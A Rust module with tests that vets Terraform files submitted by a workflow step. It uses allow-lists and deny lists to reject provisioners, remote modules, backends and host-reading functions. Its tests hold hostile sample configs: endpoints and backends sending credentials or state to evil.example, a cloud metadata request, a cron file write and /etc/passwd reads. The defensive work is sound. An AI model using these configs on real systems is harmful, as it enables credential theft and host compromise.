//! What a step may write into a configuration.
//!
//! A configuration is a program: it can read files of the host, run programs there, load providers and modules from
//! anywhere, and send the credentials of the process to where it likes. What a step brings is held against a list of what
//! describes infrastructure, and everything else is refused, before terraform sees it. Files of the working copy are
//! those of whoever runs the host, and are not looked at.

use hcl_edit::expr::{Expression, FuncCall};
use hcl_edit::structure::{Attribute, Block, Body};
use hcl_edit::visit::{Visit, visit_block, visit_func_call};
use wflo_ports::{TerraformError, TerraformFile};

use super::depth::is_too_deep;

/// Most files of one plan.
const MOST_FILES: usize = 64;
/// Most bytes of one of them.
const MOST_BYTES: usize = 256 << 10;

/// Blocks that a step may write. What configures terraform itself is the working copy's to say: providers and their
/// credentials, where the state is, which resources that exist already are taken over.
const BLOCKS: &[&str] =
    &["check", "data", "locals", "module", "moved", "output", "removed", "resource", "terraform", "variable"];

/// Resources and data that reach the host or the network by themselves, whichever provider they come from.
const KINDS: &[&str] =
    &["external", "http", "local_file", "local_sensitive_file", "template_file", "terraform_remote_state"];

/// Functions that read the host, or take a secret's mark away. All that begin with `file` read files.
const FUNCTIONS: &[&str] = &["abspath", "nonsensitive", "pathexpand", "templatefile", "templatestring"];

/// Whether terraform may be given these files.
///
/// # Errors
/// [`TerraformError::Limit`] for too many or too much, [`TerraformError::Invalid`] for what is no configuration,
/// [`TerraformError::Prohibited`] for what is more than a description of infrastructure.
pub(super) fn vet(files: &[TerraformFile]) -> Result<(), TerraformError> {
    if files.len() > MOST_FILES {
        return Err(TerraformError::Limit {
            message: format!("{} files; a plan takes {MOST_FILES}", files.len()),
        });
    }
    for (index, file) in files.iter().enumerate() {
        let path = &file.path;
        if files[..index].iter().any(|other| other.path == *path) {
            return Err(TerraformError::Invalid { message: format!("`{path}` is there twice") });
        }
        if file.content.len() > MOST_BYTES {
            let message = format!("`{path}` has {} bytes; it may have {MOST_BYTES}", file.content.len());
            return Err(TerraformError::Limit { message });
        }
        let body = parse(&file.content)
            .map_err(|why| TerraformError::Invalid { message: format!("`{path}`: {why}") })?;
        if let Some(why) = found(&body) {
            return Err(TerraformError::Prohibited { message: format!("`{path}`: {why}") });
        }
    }
    Ok(())
}

/// Reads a configuration.
///
/// # Errors
/// Why it cannot be read, in words.
pub(super) fn parse(text: &str) -> Result<Body, String> {
    if is_too_deep(text) {
        return Err("it is nested deeper than any configuration".to_owned());
    }
    hcl_edit::parser::parse_body(text).map_err(|error| {
        let place = error.location();
        format!("line {}, column {}: {}", place.line(), place.column(), error.message())
    })
}

/// The first thing in a configuration that a step may not write.
fn found(body: &Body) -> Option<String> {
    let mut vetting = Vetting::default();
    for block in body.blocks() {
        let name = block.ident.as_str();
        if !BLOCKS.contains(&name) {
            vetting.refuse(format!("a step may not write a `{name}` block; the working copy may have one"));
        }
        if name == "terraform" {
            vetting.terraform(block);
        }
    }
    vetting.visit_body(body);
    vetting.refused
}

#[derive(Default)]
struct Vetting {
    refused: Option<String>,
}

impl Vetting {
    fn refuse(&mut self, why: String) {
        self.refused.get_or_insert(why);
    }

    /// `terraform { .. }` may say which versions it wants and nothing else: no backend, no cloud, no encryption.
    fn terraform(&mut self, block: &Block) {
        let other = block.body.iter().find_map(|part| match (part.as_block(), part.as_attribute()) {
            (Some(block), _) if block.ident.as_str() == "required_providers" => None,
            (_, Some(attribute)) if attribute.key.as_str() == "required_version" => None,
            (Some(block), _) => Some(block.ident.as_str()),
            (None, Some(attribute)) => Some(attribute.key.as_str()),
            (None, None) => None,
        });
        if let Some(name) = other {
            self.refuse(format!("`{name}` in `terraform` is the working copy's to say"));
        }
    }
}

impl Visit for Vetting {
    fn visit_block(&mut self, block: &Block) {
        let name = block.ident.as_str();
        let label = block.labels.first().map_or("", |label| label.as_str());
        match name {
            "provisioner" => self.refuse("a provisioner runs programs".to_owned()),
            "dynamic" if label == "provisioner" => self.refuse("a provisioner runs programs".to_owned()),
            "resource" | "data" if KINDS.contains(&label) => {
                self.refuse(format!("`{name} \"{label}\"` reaches past the infrastructure"));
            }
            "module" => match block.body.get_attribute("source").map(|source| &source.value) {
                Some(Expression::String(source)) if is_below(source) => {}
                _ => self
                    .refuse("a module that a step brings lies below: `source = \"./modules/..\"`".to_owned()),
            },
            _ => {}
        }
        visit_block(self, block);
    }

    fn visit_func_call(&mut self, call: &FuncCall) {
        let name = call.name.name.as_str();
        if !call.name.namespace.is_empty() {
            self.refuse(format!("function `{name}` is a provider's own"));
        } else if name.starts_with("file") || FUNCTIONS.contains(&name) {
            self.refuse(format!("function `{name}` reaches past the configuration"));
        }
        visit_func_call(self, call);
    }
}

/// Whether a module lies below the one that names it.
fn is_below(source: &str) -> bool {
    source.starts_with("./")
        && source.split('/').all(|part| part != "..")
        && !source.contains(['?', '\\', ':'])
}

/// The backend that a configuration names, and the path in it where that is literal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Named {
    pub(super) kind: String,
    pub(super) path: Option<String>,
}

/// The backend that a configuration names; none where it names none.
pub(super) fn backend(body: &Body) -> Option<Named> {
    let terraform = body.blocks().filter(|block| block.ident.as_str() == "terraform");
    terraform.flat_map(|block| block.body.blocks()).find_map(|block| {
        let kind = match block.ident.as_str() {
            "backend" => block.labels.first()?.as_str().to_owned(),
            "cloud" => "cloud".to_owned(),
            _ => return None,
        };
        let path = block.body.get_attribute("path").and_then(|path: &Attribute| match &path.value {
            Expression::String(path) => Some(path.as_str().to_owned()),
            _ => None,
        });
        Some(Named { kind, path })
    })
}

#[cfg(test)]
mod tests {
    use wflo_ports::{TerraformError, TerraformFile};

    use super::{Named, backend, parse, vet};

    fn file(content: &str) -> TerraformFile {
        TerraformFile { path: "main.tf".parse().unwrap(), content: content.to_owned() }
    }

    #[test]
    fn what_describes_infrastructure_passes() {
        let text = r#"
            terraform {
              required_version = ">= 0.15"
              required_providers { aws = { source = "hashicorp/aws" } }
            }
            variable "size" { default = "m5.large" }
            locals { names = [for n in range(3) : format("web-%d", n) if n > 0] }
            data "aws_ami" "it" { most_recent = true }
            resource "aws_instance" "web" {
              count = length(local.names)
              instance_type = var.size
              user_data = <<-EOT
                echo ${local.names[count.index]} %{ if true }yes%{ endif }
              EOT
              dynamic "ebs_block_device" {
                for_each = [1]
                content { size = ebs_block_device.value }
              }
              lifecycle { create_before_destroy = true }
            }
            module "vpc" { source = "./modules/vpc" }
            output "profile" { value = "a profile (of files)" }
            moved {
              from = aws_instance.a
              to = aws_instance.web
            }
        "#;
        assert_eq!(vet(&[file(text)]), Ok(()));
    }

    #[test]
    fn what_reaches_past_it_is_refused_wherever_it_hides() {
        for (text, word) in [
            ("provider \"aws\" {\n endpoints { sts = \"http://evil.example\" }\n}", "provider"),
            ("import {\n to = a.b\n id = \"x\"\n}", "import"),
            ("terraform {\n backend \"http\" { address = \"http://evil.example\" }\n}", "backend"),
            ("terraform {\n cloud {}\n}", "cloud"),
            ("terraform {\n encryption {}\n}", "encryption"),
            (
                "resource \"null_resource\" \"a\" {\n provisioner \"local-exec\" { command = \"id\" }\n}",
                "runs programs",
            ),
            ("resource \"a\" \"a\" {\n dynamic \"provisioner\" { for_each = [1] }\n}", "runs programs"),
            ("data \"external\" \"a\" { program = [\"id\"] }", "external"),
            ("data \"http\" \"a\" { url = \"http://169.254.169.254/\" }", "http"),
            ("data \"terraform_remote_state\" \"a\" { backend = \"local\" }", "terraform_remote_state"),
            ("check \"a\" {\n data \"external\" \"b\" { program = [\"id\"] }\n}", "external"),
            ("resource \"local_file\" \"a\" { filename = \"/etc/cron.d/a\" }", "local_file"),
            ("module \"a\" { source = \"git::https://evil.example/a.git\" }", "module"),
            ("module \"a\" { source = \"./../a\" }", "module"),
            ("module \"a\" { source = \"${\"..\"}/a\" }", "module"),
            ("module \"a\" {\n}", "module"),
            ("output \"a\" { value = file(\"/etc/passwd\") }", "`file`"),
            ("output \"a\" { value = \"x${filebase64(\"/etc/passwd\")}\" }", "filebase64"),
            ("output \"a\" { value = file /* here */ (\"/etc/passwd\") }", "`file`"),
            ("output \"a\" { value = [for x in fileset(\"/\", \"*\") : x] }", "fileset"),
            ("output \"a\" {\n value = <<EOT\n${templatefile(\"/etc/passwd\", {})}\nEOT\n}", "templatefile"),
            ("output \"a\" { value = templatestring(var.a, {}) }", "templatestring"),
            ("output \"a\" { value = nonsensitive(var.password) }", "nonsensitive"),
            ("output \"a\" { value = core::file(\"/etc/passwd\") }", "provider's own"),
            ("locals { a = { (file(\"/etc/passwd\")) = 1 } }", "`file`"),
            ("variable \"a\" { default = file(\"/etc/passwd\") }", "`file`"),
        ] {
            match vet(&[file(text)]) {
                Err(TerraformError::Prohibited { message }) => {
                    assert!(message.contains(word), "{text}: {message}")
                }
                other => panic!("{text}: {other:?}"),
            }
        }
    }

    #[test]
    fn what_is_no_configuration_or_too_much_is_told_so() {
        let check = |files: &[TerraformFile], expect: &str| {
            let error = vet(files).unwrap_err().to_string();
            assert!(error.contains(expect), "{error}");
        };
        check(&[file("output \"a\" {")], "`main.tf`: line ");
        check(&[file(&format!("a = {}", "(".repeat(100_000)))], "nested");
        check(&[file(""), file("")], "twice");
        check(&[file(&" ".repeat(300_000))], "300000 bytes");
        let many: Vec<_> = (0..65)
            .map(|n| TerraformFile { path: format!("f{n}.tf").parse().unwrap(), content: String::new() })
            .collect();
        check(&many, "65 files");
    }

    #[test]
    fn the_backend_of_a_working_copy_is_found() {
        let of = |text: &str| backend(&parse(text).unwrap());
        let named =
            |kind: &str, path: Option<&str>| Named { kind: kind.to_owned(), path: path.map(str::to_owned) };
        assert_eq!(of("output \"a\" { value = 1 }"), None);
        assert_eq!(of("terraform {\n backend \"s3\" {}\n}"), Some(named("s3", None)));
        assert_eq!(of("terraform {\n cloud {}\n}"), Some(named("cloud", None)));
        let local = "terraform {\n backend \"local\" { path = \"states/prod.tfstate\" }\n}";
        assert_eq!(of(local), Some(named("local", Some("states/prod.tfstate"))));
    }
}
